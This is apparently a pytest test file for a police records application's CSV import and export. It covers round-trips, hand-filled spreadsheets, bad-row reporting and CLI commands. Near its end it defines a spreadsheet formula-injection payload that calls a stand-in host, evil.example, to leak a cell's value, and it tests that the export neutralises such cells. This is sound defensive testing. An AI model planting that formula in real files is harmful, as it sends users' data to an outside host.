"""``records import --format csv``: a CSV export imports again unchanged, and a
spreadsheet filled by hand imports too, with its bad rows reported by rule."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from atalaya.accounts.authz import Principal
from atalaya.accounts.models import Agency, AgencyLevel, Role
from atalaya.accounts.service import create_agency, get_agency
from atalaya.cli import app as cli
from atalaya.db import make_engine
from atalaya.errors import DomainError
from atalaya.records.csv_format import EXPORT_ONLY, INCIDENT_FIELDS, PARTS, count_csv, read_csv
from atalaya.records.exports import write_csv
from atalaya.records.imports import import_records
from atalaya.records.models import Incident, IncidentVersion
from atalaya.records.schema import IncidentIn
from atalaya.records.service import IncidentFilter, matching_incidents
from atalaya.settings import Settings
from conftest import TEST_CONTEXT
from records.test_incidents_api import homicide

DOCS = Path(__file__).resolve().parents[2] / "docs" / "records.md"
JUAREZ, OTHER = "MX-SSPM-JUA", "MX-SSPM-JUA-CSV"
runner = CliRunner()

# Every part and kind of value the layout has: several offences (one by national code,
# one attempted), persons, things, coordinates, a narrative with the delimiters, quotes
# and a line break in it.
RECORDS = [
    homicide(reference="R-1"),
    homicide(
        reference="R-2",
        occurred_from="2025-06",
        occurred_to="2025-07-02",
        latitude=31.6904,
        longitude=-106.4245,
        status="under_investigation",
        restricted=True,
        narrative='Dijo: "alto"; huyó,\nen un auto.',
        offences=[
            {"iccs": "0101", "weapon": "firearm", "context": "gang"},
            {"national_scheme": "us-nibrs", "national_code": "13A"},
            {"iccs": "020112", "attempted": True},
        ],
        persons=[
            {
                "role": "victim",
                "given_names": "Ana",
                "surnames": "Ruiz",
                "sex": "female",
                "age": 31,
                "date_of_birth": "1994-02",
                "nationality": "MX",
                "relationship": "acquaintance",
            },
            {"role": "suspect", "age_group": "18-24"},
            {"role": "arrested", "surnames": "Soto; Gil", "sex": "male", "age": 22},
        ],
        vehicles=[],
        firearms=[
            {
                "status": "seized",
                "serial": "ABC-123",
                "make": "Glock",
                "calibre": "9mm",
                "type": "pistol",
            },
            {"status": "stolen", "serial": "Z9"},
        ],
        documents=[
            {"status": "fraudulent", "type": "passport", "number": "G123", "issuing_country": "MX"}
        ],
    ),
    homicide(reference="R-3", offences=[{"iccs": "020111"}], persons=[], vehicles=[]),
]


def officer_of(session: Session, code: str) -> Principal:
    agency = get_agency(session, code)
    return Principal(0, "import", agency.id, agency.code, AgencyLevel(agency.level),
                     agency.area.path, frozenset({Role.OFFICER}))  # fmt: skip


@pytest.fixture
def other_agency(session: Session) -> Agency:
    """A second municipal agency over Juárez, with no incidents yet."""
    agency = create_agency(session, TEST_CONTEXT, code=OTHER, name="Otra policía",
                           level="municipal", area="MX-08-037", parent="MX-SSPE-CHH")  # fmt: skip
    session.commit()
    return agency


def store(db, session: Session, records: list[dict[str, Any]]) -> None:  # type: ignore[no-untyped-def]
    given = [(f"line {i}", IncidentIn.model_validate(r)) for i, r in enumerate(records, 1)]
    report = import_records(db.sessions, officer_of(session, JUAREZ), TEST_CONTEXT, given)
    assert (report.stored, report.rejected) == (len(records), [])


def export(session: Session, path: Path, agency: str = JUAREZ) -> Path:
    out = io.StringIO()
    write_csv(session, matching_incidents(IncidentFilter(agency=agency)), out)
    path.write_text(out.getvalue(), encoding="utf-8")
    return path


def import_csv(db, session: Session, path: Path, agency: str = JUAREZ):  # type: ignore[no-untyped-def]
    return import_records(db.sessions, officer_of(session, agency), TEST_CONTEXT, read_csv(path))


def recorded(session: Session, agency: str) -> dict[str, dict[str, Any]]:
    """Each incident of ``agency`` by reference, as last recorded."""
    rows = session.execute(
        select(Incident.reference, IncidentVersion.record)
        .join(IncidentVersion, (IncidentVersion.incident_id == Incident.id)
              & (IncidentVersion.version == Incident.version))
        .join(Agency, Agency.id == Incident.agency_id)
        .where(Agency.code == agency)
    ).all()  # fmt: skip
    return dict(rows)  # type: ignore[arg-type]


def csv_file(path: Path, *lines: str, bom: bool = False) -> Path:
    path.write_text(("\ufeff" if bom else "") + "\n".join(lines) + "\n", encoding="utf-8")
    return path


def rejections(report) -> set[tuple[str, str, str]]:  # type: ignore[no-untyped-def]
    return {(r.where, e.code, e.field) for r in report.rejected for e in r.errors}


def test_an_export_imports_into_another_agency_as_the_same_records(
    tmp_path: Path, db, session: Session, other_agency: Agency
) -> None:  # type: ignore[no-untyped-def]
    store(db, session, RECORDS)
    path = export(session, tmp_path / "out.csv")
    header = path.read_text().splitlines()[0].split(",")
    assert {"offence3_iccs", "person3_role", "vehicle1_vin", "firearm2_serial"} <= set(header)
    assert "offence4_iccs" not in header and "vehicle2_vin" not in header
    report = import_csv(db, session, path, OTHER)
    assert (report.read, report.stored, report.rejected) == (3, 3, [])
    assert recorded(session, OTHER) == recorded(session, JUAREZ)
    assert recorded(session, OTHER)["R-2"]["narrative"] == 'Dijo: "alto"; huyó,\nen un auto.'


def test_importing_an_export_again_changes_nothing(
    tmp_path: Path, db, session: Session, other_agency: Agency
) -> None:  # type: ignore[no-untyped-def]
    store(db, session, RECORDS)
    path = export(session, tmp_path / "out.csv")
    back = import_csv(db, session, path)
    assert (back.stored, back.updated, back.unchanged, back.rejected) == (0, 0, 3, [])
    assert import_csv(db, session, path, OTHER).stored == 3
    again = import_csv(db, session, path, OTHER)
    assert (again.stored, again.updated, again.unchanged, again.rejected) == (0, 0, 3, [])
    versions = session.scalar(select(func.max(Incident.version)))
    assert versions == 1


def test_a_spreadsheet_with_semicolons_a_bom_and_loose_headers_imports(
    tmp_path: Path, db, session: Session
) -> None:  # type: ignore[no-untyped-def]
    path = csv_file(
        tmp_path / "hand.csv",
        "Reference; Occurred From ;AREA;Offence 1 ICCS;offence1-weapon;Offence 1 Attempted;"
        "Person 1 Role;person1 sex;Person1 Age;Latitude;Longitude;Restricted",
        "H-1;2025-03-04;MX-08-037;0101;firearm;;victim;female;34;31,69;-106,42;Sí",
        "H-2;2025-03-05;MX-08-037;020111;; x ;victim;;;;;no",
        ";;;;;;;;;;;",
        bom=True,
    )
    assert count_csv(path) == 2
    report = import_csv(db, session, path)
    assert (report.stored, report.rejected) == (2, [])
    first, second = recorded(session, JUAREZ)["H-1"], recorded(session, JUAREZ)["H-2"]
    assert (first["latitude"], first["longitude"], first["restricted"]) == (31.69, -106.42, True)
    assert first["persons"] == [{"role": "victim", "given_names": "", "surnames": "",
                                 "sex": "female", "age": 34, "age_group": None,
                                 "date_of_birth": None, "nationality": None,
                                 "relationship": None}]  # fmt: skip
    assert (first["offences"][0]["weapon"], first["offences"][0]["attempted"]) == ("firearm", False)
    assert (second["offences"][0]["attempted"], second["restricted"]) == (True, False)
    assert (second["latitude"], second["persons"][0]["sex"]) == (None, "unknown")


@pytest.mark.parametrize(
    ("word", "value"),
    [("true", True), ("YES", True), ("sí", True), ("si", True), ("1", True), ("x", True),
     ("X", True), ("VERDADERO", True), ("oui", True), ("false", False), ("No", False), ("0", False),
     ("FALSO", False)],
)  # fmt: skip
def test_yes_no_cells_take_the_words_people_write(tmp_path: Path, word: str, value: bool) -> None:
    path = csv_file(tmp_path / "b.csv", "reference,restricted", f"Y-1,{word}")
    [(_, record)] = list(read_csv(path))
    assert isinstance(record, IncidentIn) and record.restricted is value


def test_bad_rows_are_reported_by_field_and_code_and_the_rest_imports(
    tmp_path: Path, db, session: Session
) -> None:  # type: ignore[no-untyped-def]
    path = csv_file(
        tmp_path / "bad.csv",
        "reference,occurred_from,area,offence1_iccs,person1_role,person1_age,offence1_attempted,narrative",
        "B-1,2025-01-01,MX-08-037,0101,victim,abc,,",
        "B-2,2025-13-45,MX-08-037,0101,victim,30,,",
        "B-3,2025-01-01,MX-08-037,0101,victim,30,maybe,",
        'B-4,2025-01-01,MX-08-037,0101,victim,30,,"two',
        'lines"',
        ",,,,,,,",
        "B-5,2025-01-01,MX-08-037,0101,victim,30,,,stray",
        "B-6,2025-01-01,MX-NOPE,0101,witness,30,,",
    )
    assert count_csv(path) == 6
    report = import_csv(db, session, path)
    assert rejections(report) == {
        ("row 2", "API-104", "persons.0.age"),
        ("row 3", "REC-104", "occurred_from"),
        ("row 4", "API-104", "offences.0.attempted"),
        ("row 8", "API-103", "column 9"),
        ("row 9", "REC-118", "area"),
        ("row 9", "REC-110", "persons"),
    }
    assert (report.read, report.stored) == (6, 1)
    assert recorded(session, JUAREZ)["B-4"]["narrative"] == "two\nlines"
    assert set(recorded(session, JUAREZ)) == {"B-4"}


@pytest.mark.parametrize(
    ("header", "refused"),
    [
        ("reference,area,colour", "colour"),
        ("reference,Area,area", "area"),
        ("reference,person0_role", "person0_role"),
        ("reference,Offence 1 Colour", "Offence 1 Colour"),
        ("reference,suspect1_role", "suspect1_role"),
    ],
)
def test_a_column_not_in_the_layout_refuses_the_whole_file(
    tmp_path: Path, header: str, refused: str
) -> None:
    path = csv_file(tmp_path / "cols.csv", header, ",".join(["U-1", *["x"] * header.count(",")]))
    for reading in (lambda: next(read_csv(path)), lambda: count_csv(path)):
        with pytest.raises(DomainError) as raised:
            reading()
        assert (raised.value.code, raised.value.field) == ("API-103", refused)


def test_a_file_that_is_not_utf8_is_refused_at_its_line(tmp_path: Path) -> None:
    path = tmp_path / "latin1.csv"
    path.write_bytes("reference;narrative\nL-1;ok\nL-2;huyó\n".encode("latin-1"))
    with pytest.raises(DomainError) as raised:
        count_csv(path)
    assert (raised.value.code, raised.value.field) == ("API-110", "line 3")


def test_a_quote_left_open_refuses_the_file_at_the_row_it_opens(tmp_path: Path) -> None:
    path = csv_file(tmp_path / "q.csv", "reference,narrative", "Q-1,ok", 'Q-2,"open', "Q-3,x")
    with pytest.raises(DomainError) as raised:
        count_csv(path)
    assert (raised.value.code, raised.value.field) == ("API-104", "line 3")


def test_several_offences_persons_and_things_in_one_row(
    tmp_path: Path, db, session: Session
) -> None:  # type: ignore[no-untyped-def]
    path = csv_file(
        tmp_path / "many.csv",
        "reference,occurred_from,area,"
        "offence1_iccs,offence1_weapon,offence2_national_scheme,offence2_national_code,"
        "person1_role,person1_surnames,person2_role,person3_role,person3_age,"
        "vehicle1_status,vehicle1_plate,firearm1_status,firearm1_serial,firearm2_status,"
        "document1_status,document1_type,document1_number",
        "M-1,2025-02-01,MX-08-037,0101,firearm,us-nibrs,13A,"
        "victim,Pérez,,suspect,19,stolen,EFG-12-34,seized,A1,lost,lost,passport,G9",
    )
    report = import_csv(db, session, path)
    assert (report.stored, report.rejected) == (1, [])
    incident = session.scalar(select(Incident).where(Incident.reference == "M-1"))
    assert incident is not None
    assert [(o.iccs_code, o.national_code) for o in incident.offences] == [
        ("0101", None),
        ("020111", "13A"),
    ]
    # person2 has every cell blank: persons are the groups filled, in their order.
    assert [(p.role, p.surnames, p.age) for p in incident.persons] == [
        ("victim", "Pérez", None),
        ("suspect", "", 19),
    ]
    assert [(v.status, v.plate_normalised) for v in incident.vehicles] == [("stolen", "EFG1234")]
    assert [(f.status, f.serial) for f in incident.firearms] == [("seized", "A1"), ("lost", None)]
    assert [(d.type, d.number) for d in incident.documents] == [("passport", "G9")]


def test_every_column_is_documented() -> None:
    text = DOCS.read_text()
    section = text[text.index("## CSV import columns") :]
    section = section[: section.index("\n## ", 1)]
    names = [*EXPORT_ONLY, *INCIDENT_FIELDS, *(f"{p.prefix}N_{f}" for p in PARTS for f in p.fields)]
    missing = [name for name in names if f"`{name}`" not in section]
    assert missing == []


def test_the_command_imports_an_export_into_another_agency_and_again_changes_nothing(
    cli_env: Settings, tmp_path: Path
) -> None:
    source = tmp_path / "in.jsonl"
    source.write_text("\n".join(json.dumps(r) for r in RECORDS) + "\n")
    imported = runner.invoke(cli, ["records", "import", str(source), "--format", "jsonl",
                                   "--agency", JUAREZ])  # fmt: skip
    assert "3 stored" in imported.output, imported.output
    out = tmp_path / "out.csv"
    exported = runner.invoke(cli, ["records", "export", "--format", "csv", "--output", str(out)])
    assert exported.exit_code == 0, exported.output
    add = runner.invoke(cli, ["agencies", "add", OTHER, "--name", "Otra", "--level", "municipal",
                              "--area", "MX-08-037", "--parent", "MX-SSPE-CHH"])  # fmt: skip
    assert add.exit_code == 0, add.output
    args = ["records", "import", str(out), "--format", "csv", "--agency", OTHER]
    first = runner.invoke(cli, args)
    assert first.exit_code == 0 and "3 stored" in first.output, first.output
    second = runner.invoke(cli, args)
    assert "0 stored, 0 updated, 3 unchanged, 0 rejected" in second.output, second.output


def test_the_command_refuses_a_file_with_an_unknown_column_and_stores_nothing(
    cli_env: Settings, tmp_path: Path
) -> None:
    path = csv_file(
        tmp_path / "colour.csv",
        "reference,occurred_from,area,offence1_iccs,person1_role,Colour",
        "U-1,2025-01-01,MX-08-037,0101,victim,red",
    )
    result = runner.invoke(cli, ["records", "import", str(path), "--format", "csv",
                                 "--agency", JUAREZ])  # fmt: skip
    assert result.exit_code == 1
    assert "API-103 [Colour]: This field is not allowed here." in result.output
    engine = make_engine(cli_env)
    with Session(engine) as s:
        assert s.scalar(select(func.count()).select_from(Incident)) == 0
    engine.dispose()


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Ver")'


def test_a_csv_export_quotes_text_a_spreadsheet_would_run_and_imports_it_back_as_typed(
    tmp_path: Path, db, session: Session, other_agency: Agency
) -> None:  # type: ignore[no-untyped-def]
    typed = homicide(
        reference="F-1", narrative=FORMULA, latitude=-31.5, longitude=-106.4245,
        occurred_from="2025-06-01",
        persons=[{"role": "victim", "surnames": "@SUM(1+1)", "given_names": "+1", "age": 30}],
        documents=[{"status": "stolen", "type": "passport", "number": "-2+3"}],
        firearms=[{"status": "seized", "make": "'quoted"}],
    )  # fmt: skip
    store(db, session, [typed])
    path = export(session, tmp_path / "out.csv")
    with path.open(newline="", encoding="utf-8") as f:
        (row,) = csv.DictReader(f)
    assert row["narrative"] == "'" + FORMULA
    assert (row["person1_surnames"], row["person1_given_names"]) == ("'@SUM(1+1)", "'+1")
    assert row["document1_number"] == "'-2+3"
    assert row["firearm1_make"] == "''quoted"  # so that the import gives back 'quoted
    # Numbers and dates are written as they are: a negative coordinate is not text.
    assert (row["latitude"], row["longitude"]) == ("-31.5", "-106.4245")
    assert (row["occurred_from"], row["person1_age"]) == ("2025-06-01", "30")
    assert row["reported_at"].startswith("2026-11-20T23:40")
    report = import_csv(db, session, path, OTHER)
    assert (report.stored, report.rejected) == (1, [])
    back = recorded(session, OTHER)["F-1"]
    assert back["narrative"] == FORMULA and back["documents"][0]["number"] == "-2+3"
    assert back["persons"][0]["surnames"] == "@SUM(1+1)"
    assert back["firearms"][0]["make"] == "'quoted"
